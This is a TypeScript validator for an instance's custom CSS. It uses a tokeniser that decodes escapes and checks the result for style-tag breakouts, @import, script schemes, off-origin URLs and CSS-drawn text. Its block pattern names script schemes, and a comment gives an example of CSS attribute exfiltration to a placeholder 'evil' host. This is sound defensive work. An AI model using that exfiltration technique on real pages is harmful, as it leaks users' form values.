import { drawsChosenText, writesContent } from './css-drawn-text.rule';

/**
 * What an instance's custom CSS may contain. It is served inside /instance/styles.css after the
 * :root block, so it can only add rules; these checks stop it from loading or running anything:
 *
 * - at most 50 KB (UTF-8);
 * - no `</style` (it would end an inline <style> element if the CSS were ever inlined into HTML);
 * - no `@import` (a browser ignores it after other rules anyway, and it would pull in foreign CSS);
 * - no `javascript:`, `vbscript:`, `expression(` or `-moz-binding` anywhere, strings included;
 * - every URL, in `url()`, `src()` or `image-set()`, stays on the product's own origin: a relative
 *   path (no scheme, no protocol-relative `//host`). The one absolute URL allowed is the instance's own
 *   logo. A stylesheet may otherwise load nothing from elsewhere, because CSS can read attribute values
 *   (`input[value^="a"] { background: url(https://evil/?a) }`) and leak them, one request per guess;
 * - no text of its own on screen (css-drawn-text.rule.ts): `content:` only as `none`, `normal`, `""`,
 *   numeric counters or quotes, and no strings, letter counter styles or `@counter-style` anywhere else a
 *   browser draws them, so CSS cannot put words on screen that look like the product's or another user's.
 *
 * The checks run on what a browser sees: comments removed, CSS escapes (`\6a`, `\:`) decoded, and
 * tabs and newlines dropped from URLs and schemes as URL parsers do. Erring on the strict side is
 * fine here: the worst case is an admin rewording a rule.
 */
export const CUSTOM_CSS_MAX_BYTES = 50 * 1024;

export const CssRule = {
  TooLong: 'VALIDATION.CUSTOM_CSS.TOO_LONG',
  StyleTag: 'VALIDATION.CUSTOM_CSS.STYLE_TAG',
  Import: 'VALIDATION.CUSTOM_CSS.IMPORT',
  Script: 'VALIDATION.CUSTOM_CSS.SCRIPT',
  UnsafeUrl: 'VALIDATION.CUSTOM_CSS.UNSAFE_URL',
  Content: 'VALIDATION.CUSTOM_CSS.CONTENT',
  Text: 'VALIDATION.CUSTOM_CSS.TEXT',
} as const;

const URL_FUNCTIONS = new Set(['url', 'src', 'image-set', '-webkit-image-set']);
const IDENT_CHAR = /[A-Za-z0-9_\-\u0080-\uffff]/;
const WHITESPACE = /[ \t\n\r\f]/;
const SCRIPT = /javascript:|vbscript:|expression\s*\(|-moz-binding/;

/**
 * The CSS as a browser tokenises it: comments gone, escapes decoded, and the URLs it would load; `shape` is
 * the same text with each string as `""` when empty or `"…"` when not (so a string cannot end a declaration).
 */
export function scanCss(css: string): { text: string; shape: string; urls: string[] } {
  let text = '';
  let shape = '';
  let ident = '';
  let i = 0;
  const urls: string[] = [];
  const functions: string[] = [];

  const readEscape = (): string => {
    const hex = /^\\([0-9a-fA-F]{1,6})[ \t\n\r\f]?/.exec(css.slice(i, i + 8));
    if (hex) {
      i += hex[0].length;
      const cp = parseInt(hex[1], 16);
      return cp === 0 || cp > 0x10ffff || (cp >= 0xd800 && cp <= 0xdfff) ? '\ufffd' : String.fromCodePoint(cp);
    }
    const next = css[i + 1];
    i += 2;
    if (next === undefined) return '\ufffd';
    return '\n\r\f'.includes(next) ? '' : next;
  };

  const readString = (quote: string): string => {
    let value = '';
    i++;
    while (i < css.length) {
      const c = css[i];
      if (c === quote) {
        i++;
        break;
      }
      if (c === '\n' || c === '\r' || c === '\f') break;
      if (c === '\\') value += readEscape();
      else {
        value += c;
        i++;
      }
    }
    return value;
  };

  /** An unquoted url( ... ) token, up to the closing parenthesis. */
  const readUnquotedUrl = (): string => {
    let value = '';
    while (i < css.length && css[i] !== ')') {
      if (css[i] === '\\') value += readEscape();
      else value += css[i++];
    }
    i++;
    return value;
  };

  while (i < css.length) {
    const c = css[i];
    if (c === '/' && css[i + 1] === '*') {
      const end = css.indexOf('*/', i + 2);
      i = end < 0 ? css.length : end + 2;
      // Dropped without a trace in the text, so "expr/**/ession(" is still caught (old IE read it so).
      ident = '';
    } else if (c === '"' || c === "'") {
      const value = readString(c);
      if (URL_FUNCTIONS.has(functions[functions.length - 1] ?? '')) urls.push(value);
      text += `"${value}"`;
      shape += value ? '"…"' : '""';
      ident = '';
    } else if (c === '\\') {
      const decoded = readEscape();
      text += decoded;
      shape += decoded;
      ident += decoded;
    } else if (c === '(') {
      const name = ident.toLowerCase();
      ident = '';
      text += '(';
      shape += '(';
      i++;
      while (i < css.length && WHITESPACE.test(css[i])) i++;
      if (name === 'url' && css[i] !== '"' && css[i] !== "'") {
        const value = readUnquotedUrl();
        urls.push(value);
        text += `${value})`;
        shape += `${value})`;
      } else {
        functions.push(name);
      }
    } else if (c === ')') {
      functions.pop();
      ident = '';
      text += ')';
      shape += ')';
      i++;
    } else {
      ident = IDENT_CHAR.test(c) ? ident + c : '';
      text += c;
      shape += c;
      i++;
    }
  }
  return { text, shape, urls };
}

// Browsers ignore control characters and spaces around a URL; the patterns match them on purpose.
// eslint-disable-next-line no-control-regex
const LEADING_CONTROL = /^[\u0000-\u0020]+/;
// eslint-disable-next-line no-control-regex
const TRAILING_CONTROL = /[\u0000-\u0020]+$/;
const cleanUrl = (url: string) =>
  url
    .replace(LEADING_CONTROL, '')
    .replace(TRAILING_CONTROL, '')
    .replace(/[\t\n\r]/g, '')
    .replace(/\\/g, '/');

/**
 * A URL on the product's own origin: relative, with no scheme and no `//host` (a URL parser drops leading
 * spaces and controls, tabs and newlines, and reads \ as /); or exactly one of the `allowed` absolute URLs.
 */
export function isSafeCssUrl(url: string, allowed: readonly string[] = []): boolean {
  const cleaned = cleanUrl(url);
  if (allowed.some((a) => a && cleanUrl(a) === cleaned)) return true;
  return !/^[a-z][a-z0-9+.-]*:/i.test(cleaned) && !cleaned.startsWith('//');
}

/** What a custom stylesheet is checked against beyond itself. */
export interface CustomCssContext {
  /** the instance's logo URL: the one absolute URL the CSS may use */
  logoUrl?: string | null;
}

/** The broken rules of a custom stylesheet, as translation keys; empty when it may be stored. */
export function customCssProblems(css: string, context: CustomCssContext = {}): string[] {
  if (Buffer.byteLength(css, 'utf8') > CUSTOM_CSS_MAX_BYTES) return [CssRule.TooLong];
  const { text, shape, urls } = scanCss(css);
  const seen = text.toLowerCase();
  const squeezed = seen.replace(/[\t\n\r]/g, '');
  const problems = new Set<string>();
  if (css.toLowerCase().includes('</style') || seen.includes('</style')) problems.add(CssRule.StyleTag);
  if (seen.includes('@import')) problems.add(CssRule.Import);
  if (SCRIPT.test(squeezed)) problems.add(CssRule.Script);
  if (urls.some((url) => !isSafeCssUrl(url, context.logoUrl ? [context.logoUrl] : []))) problems.add(CssRule.UnsafeUrl);
  if (writesContent(shape.toLowerCase())) problems.add(CssRule.Content);
  if (drawsChosenText(shape.toLowerCase())) problems.add(CssRule.Text);
  return [...problems];
}
